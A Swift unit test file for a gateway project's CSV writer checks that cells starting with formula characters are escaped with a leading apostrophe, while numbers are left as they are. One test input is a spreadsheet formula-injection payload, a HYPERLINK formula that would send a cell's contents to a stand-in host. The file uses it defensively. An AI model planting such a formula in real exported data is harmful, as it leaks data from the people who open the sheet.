// SPDX-License-Identifier: Apache-2.0
// Copyright the cosem-gateway authors

import JSONText
import Testing

@testable import GatewayAPI

@Suite("Cells of CSV")
struct CSVTextTests {
    @Test(
        "What a spreadsheet would take for a formula is text, numbers are numbers",
        arguments: [
            ("=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""), ("@SUM(A1)", "'@SUM(A1)"),
            ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("-", "'-"), ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("-5", "-5"),
            ("-5.25e3", "-5.25e3"), ("12", "12"), ("a=b", "a=b"), ("", ""),
        ]
    )
    func formulas(text: String, cell: String) throws {
        var plain = CSVText()
        plain.add(text.utf8)
        plain.endLine()
        #expect(String(decoding: plain.take(), as: UTF8.self) == cell + "\r\n")
        var value = CSVText()
        value.add(JSONValue.string(text))
        value.endLine()
        #expect(String(decoding: value.take(), as: UTF8.self) == cell + "\r\n")
        var json = CSVText()
        json.add(json: JSONValue.string(text).octets)
        json.endLine()
        #expect(String(decoding: json.take(), as: UTF8.self) == cell + "\r\n")
    }
}
